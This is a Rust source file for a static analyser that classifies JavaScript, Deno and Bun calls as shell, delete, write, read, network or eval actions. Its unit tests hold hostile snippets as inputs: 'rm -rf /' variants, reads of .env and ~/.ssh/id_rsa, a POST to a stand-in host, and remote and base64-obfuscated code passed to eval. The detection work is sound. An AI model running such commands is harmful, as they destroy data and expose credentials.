//! JavaScript in Node, Deno and Bun.

use super::acts::Act;
use super::lexer::{Tape, Token};
use super::scan::Scan;
use super::value::Value;

pub(super) fn act(name: &str) -> Option<Act> {
    let name = name
        .trim_start_matches("globalThis.")
        .trim_start_matches("global.");
    if let Some(method) = name.strip_prefix("fs.") {
        return file_system(
            method
                .trim_start_matches("default.")
                .trim_start_matches("promises."),
        );
    }
    if let Some(method) = name.strip_prefix("child_process.") {
        return match method
            .trim_start_matches("default.")
            .trim_end_matches("Sync")
        {
            "exec" => Some(Act::Shell),
            "execFile" | "spawn" | "fork" => Some(Act::File),
            _ => None,
        };
    }
    Some(match name {
        "$" | "Bun.$" | "bun.$" | "zx.$" | "shelljs.exec" | "execa.command"
        | "execa.execaCommand" => Act::Shell,
        "process.chdir" | "Deno.chdir" | "shelljs.cd" => Act::Enter,
        "Deno.Command" | "execa" | "execa.execa" => Act::File,
        "Bun.spawn" | "Bun.spawnSync" | "Deno.run" => Act::Spawn,
        "Deno.remove" | "Deno.removeSync" => Act::DeleteByOption,
        "Deno.writeTextFile"
        | "Deno.writeTextFileSync"
        | "Deno.writeFile"
        | "Deno.writeFileSync"
        | "Bun.write" => Act::Write,
        "Deno.readTextFile"
        | "Deno.readTextFileSync"
        | "Deno.readFile"
        | "Deno.readFileSync"
        | "Bun.file" => Act::Read,
        "rimraf" | "rimraf.sync" | "rimraf.rimraf" | "rimraf.rimrafSync" | "del" | "del.sync" => {
            Act::Delete { recursive: true }
        }
        "fetch" | "axios" | "got" | "axios.get" | "got.get" | "https.get" | "http.get"
        | "https.request" | "http.request" => Act::Fetch(""),
        "axios.post" | "got.post" => Act::Fetch("POST"),
        "axios.put" | "got.put" => Act::Fetch("PUT"),
        "net.connect"
        | "net.createConnection"
        | "tls.connect"
        | "net.Socket().connect"
        | "WebSocket" => Act::Connect,
        "eval" | "Function" | "vm.runInThisContext" | "vm.runInNewContext" => Act::Eval,
        _ if name.ends_with(".doShellScript") => Act::Shell,
        _ => return None,
    })
}

fn file_system(method: &str) -> Option<Act> {
    Some(match method.trim_end_matches("Sync") {
        "rm" | "rmdir" => Act::DeleteByOption,
        "remove" | "emptyDir" => Act::Delete { recursive: true },
        "unlink" => Act::DeleteByOption,
        "writeFile" | "appendFile" | "createWriteStream" | "truncate" | "chmod" | "chown"
        | "mkdir" | "outputFile" => Act::Write,
        "readFile" | "createReadStream" => Act::Read,
        "open" => Act::Open,
        "rename" | "move" => Act::Move,
        "copyFile" | "cp" | "copy" | "symlink" | "link" => Act::Copy,
        _ => return None,
    })
}

/// `const {a: b, c} = require('m')`, `import x, {a as b} from 'm'`, `import * as x from 'm'`.
pub(super) fn declaration(scan: &mut Scan, tape: &Tape, at: usize) -> Option<usize> {
    if tape.name(at) == "import" && tape.mark(at + 1) != "(" {
        return import(scan, tape, at + 1);
    }
    if tape.mark(at) == "{" && tape.mark(tape.close(at) + 1) == "=" {
        let source = scan.expression(tape, tape.close(at) + 2, tape.len());
        if let Value::Symbol { name, .. } = source {
            bind_members(scan, tape, at, &name, ":");
        }
        return Some(tape.close(at) + 2);
    }
    None
}

fn import(scan: &mut Scan, tape: &Tape, at: usize) -> Option<usize> {
    let mut from = at;
    while from < at + 8 && tape.name(from) != "from" {
        from = tape.next(from);
    }
    let Some(Token::Text(text)) = tape.get(from + 1).filter(|_| tape.name(from) == "from") else {
        return Some(at);
    };
    let source = scan.literal(text);
    let Some(Value::Symbol { name: module, .. }) =
        super::methods::evaluate("require", &super::value::Args::one(source))
    else {
        return Some(from + 2);
    };
    let mut at = at;
    while at < from {
        match tape.mark(at) {
            "{" => bind_members(scan, tape, at, &module, "as"),
            "*" => {
                scan.bind(tape.name(at + 2), Value::symbol(&module));
                at += 2;
            }
            _ if !tape.name(at).is_empty() => scan.bind(tape.name(at), Value::symbol(&module)),
            _ => {}
        }
        at = tape.next(at);
    }
    Some(from + 2)
}

/// `{a, b: c}` or `{a, b as c}`.
fn bind_members(scan: &mut Scan, tape: &Tape, open: usize, module: &str, renames: &str) {
    let mut at = open + 1;
    while at < tape.close(open) {
        let name = tape.name(at);
        if !name.is_empty() && name != "promises" {
            let renamed = tape.mark(at + 1) == renames || tape.name(at + 1) == renames;
            let bound = if renamed { tape.name(at + 2) } else { name };
            scan.bind(bound, Value::symbol(&format!("{module}.{name}")));
            at += if renamed { 2 } else { 0 };
        } else if name == "promises" {
            let bound = if tape.mark(at + 1) == renames {
                tape.name(at + 2)
            } else {
                name
            };
            scan.bind(bound, Value::symbol(module));
        }
        at = tape.next(at);
    }
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::JavaScript;

    #[test]
    fn programs() {
        check(
            JavaScript,
            "require('child_process').execSync('rm -rf /')",
            &["shell rm -rf /"],
        );
        check(
            JavaScript,
            "const {execSync: e} = require('node:child_process'); e('id')",
            &["shell id"],
        );
        check(
            JavaScript,
            "import {exec as x} from 'child_process'\nx(`rm -rf ${'/'}`)",
            &["shell rm -rf /"],
        );
        check(
            JavaScript,
            "import * as cp from 'child_process'; cp.spawn('rm', ['-rf', '/'])",
            &["argv rm -rf /"],
        );
        check(
            JavaScript,
            "import cp, {fork} from 'child_process'; cp.spawnSync('rm -rf /', {shell: true})",
            &["shell rm -rf /"],
        );
        check(
            JavaScript,
            "const cp = require('child_process')\ncp['exec' + 'Sync']('id')",
            &["shell id"],
        );
        check(
            JavaScript,
            "new Deno.Command('rm', {args: ['-rf', '/']}).output()",
            &["argv rm -rf /"],
        );
        check(JavaScript, "await Bun.$`rm -rf /`", &["shell rm -rf /"]);
        check(
            JavaScript,
            "process.mainModule.require('child_process').exec('id')",
            &["shell id"],
        );
        check(
            JavaScript,
            "(await import('child_process')).execSync('id')",
            &["shell id"],
        );
        check(
            JavaScript,
            "execSync(cmd); cp.execFile('git', ['log', rev])",
            &[],
        );
        check(
            JavaScript,
            "child_process.execSync(cmd)",
            &["unknown shell"],
        );
    }

    #[test]
    fn files() {
        check(
            JavaScript,
            "require('fs').rmSync('/',{recursive:true,force:true})",
            &["delete -r /"],
        );
        check(
            JavaScript,
            "const fs = require('fs'); fs.promises.rm('/', {recursive: true})",
            &["delete -r /"],
        );
        check(
            JavaScript,
            "import {rm} from 'fs/promises'; await rm('/x')",
            &["delete /x"],
        );
        check(
            JavaScript,
            "require('fs').writeFileSync('/etc/hosts', 'x')",
            &["write /etc/hosts"],
        );
        check(
            JavaScript,
            "console.log(require('fs').readFileSync('.env', 'utf8'))",
            &["read .env"],
        );
        check(
            JavaScript,
            "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
            &["read ~/.ssh/id_rsa"],
        );
        check(
            JavaScript,
            "Deno.removeSync('/', {recursive: true})",
            &["delete -r /"],
        );
        check(
            JavaScript,
            "await Deno.writeTextFile('/etc/hosts', 'x')",
            &["write /etc/hosts"],
        );
    }

    #[test]
    fn network_and_code() {
        check(
            JavaScript,
            "fetch('https://h.example', {method: 'POST', body: x})",
            &["POST https://h.example sends"],
        );
        check(
            JavaScript,
            "fetch('https://h.example').then(r => r.json())",
            &["GET https://h.example"],
        );
        check(
            JavaScript,
            "fetch('https://h.example').then(r=>r.text()).then(eval)",
            &["GET https://h.example", "remote code https://h.example"],
        );
        check(
            JavaScript,
            "eval('require(\"fs\").rmSync(\"/\", {recursive: true})')",
            &["delete -r /"],
        );
        check(
            JavaScript,
            "eval(Buffer.from('ZnMudW5saW5rKCIvIik=', 'base64').toString())",
            &["delete /"],
        );
        check(
            JavaScript,
            "new Function('fs.unlink(\"/x\")')()",
            &["delete /x"],
        );
    }

    #[test]
    fn data() {
        check(JavaScript, "console.log('rm -rf /')", &[]);
        check(
            JavaScript,
            "// require('fs').rmSync('/')\n/* fs.unlink('/') */",
            &[],
        );
        check(
            JavaScript,
            "const re = /rm -rf '/; re.exec('rm -rf /')",
            &[],
        );
        check(JavaScript, "const help = `run fs.rmSync('/') never`", &[]);
        check(JavaScript, "const a = 6 / 2; const b = 'x' / 3", &[]);
        check(JavaScript, "list.remove('/'); map.delete('/etc')", &[]);
    }
}
